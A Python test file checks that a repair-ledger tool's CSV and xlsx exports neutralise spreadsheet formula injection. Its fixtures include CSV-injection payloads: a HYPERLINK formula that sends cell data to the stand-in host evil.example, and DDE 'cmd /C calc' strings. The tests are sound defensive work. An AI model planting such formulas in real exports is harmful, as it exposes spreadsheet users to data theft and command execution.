"""CSV injection (issue 16 point 4, OWASP "CSV Injection", docs/privacy.md): a cell a spreadsheet would run
(text beginning with = + - @, a tab or a carriage return) is written with a single quote in front in every CSV
output; numbers the program computed stay numbers. Workbooks (-f xlsx) keep such text as text with Excel's
quote prefix."""
import csv
import io

from conftest import invoke, invoke_json

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "item": "+1+cmd|' /C calc'!A0",
}


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _hostile_repair(ledger, at="2026-11-28T08:00", item=HOSTILE["item"]):
    return invoke_json(ledger, "repair", "new", "--name", HOSTILE["name"], "--phone", "+86 138 0013 8000",
                       "--address", HOSTILE["address"], "--item", item, now=at)["id"]


def _no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not (cell or "").startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if (cell or "").startswith("-"):
                float(cell)  # only a computed number may begin with a minus


def test_list_neutralises_every_cell_a_spreadsheet_would_run(ledger):
    record_id = _hostile_repair(ledger)
    rows = _rows(invoke(ledger, "list", "-f", "csv").stdout)
    row = next(r for r in rows if r["id"] == record_id)
    assert row["name"] == "'" + HOSTILE["name"]
    assert row["address"] == "'" + HOSTILE["address"]
    assert row["phone"] == "'+86 138 0013 8000"  # a leading + too (it also keeps the number text)
    assert row["summary"] == "'" + HOSTILE["item"]
    _no_formula(rows)


def test_tab_carriage_return_and_minus_first_are_quoted_too(ledger):
    for at, item in (("2026-11-28T08:00", "\t=1+2"), ("2026-11-28T08:01", "-2+3+cmd|' /C calc'!A0"),
                     ("2026-11-28T08:02", "\r=1+2")):
        result = invoke(ledger, "repair", "new", "--name", "张三", "--phone", "13800138000", "--address", "3栋0301",
                        "--item", item, now=at)
        if result.exit_code != 0:  # a refused control character is also safe
            assert result.exit_code == 2
    rows = _rows(invoke(ledger, "list", "-f", "csv").stdout)
    summaries = {r["summary"] for r in rows}
    assert "'-2+3+cmd|' /C calc'!A0" in summaries
    _no_formula(rows)


def test_overdue_keeps_its_numbers_and_quotes_its_text(ledger):
    record_id = _hostile_repair(ledger, at="2026-11-28T08:00")
    rows = _rows(invoke(ledger, "overdue", "-f", "csv", now="2026-11-28T09:00").stdout)
    mine = [r for r in rows if r["id"] == record_id]
    assert mine
    for row in mine:
        if "name" in row:
            assert row["name"] == "'" + HOSTILE["name"]
        late = float(row["minutes_late"])  # a number, unquoted
        assert late > 0
    _no_formula(rows)
    # not yet due: minutes_late is negative, and still a plain number a spreadsheet can sum
    soon = _rows(invoke(ledger, "overdue", "--within", "2h", "-f", "csv", now="2026-11-28T08:01").stdout)
    negative = [r["minutes_late"] for r in soon if r["minutes_late"].startswith("-")]
    assert negative and all(float(value) < 0 for value in negative)


def test_stats_and_billing_csv_hold_no_formula(ledger):
    _hostile_repair(ledger)
    _no_formula(_rows(invoke(ledger, "stats", "2026-11", "-f", "csv").stdout))
    billing = invoke(ledger, "repair", "billing", "--month", "2026-11", "-f", "csv")
    assert billing.exit_code == 0, billing.stderr
    _no_formula(_rows(billing.stdout))


def test_a_workbook_keeps_hostile_text_as_quoted_text(ledger, tmp_path):
    from openpyxl import load_workbook

    record_id = _hostile_repair(ledger)
    path = tmp_path / "list.xlsx"
    assert invoke(ledger, "list", "-f", "xlsx", "-o", str(path)).exit_code == 0
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE["name"]]
    assert cells, [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells[0].data_type == "s"  # a string, never a formula
    assert cells[0].quotePrefix  # Excel's own "'"
    assert any(c.value == record_id for row in sheet.iter_rows() for c in row)
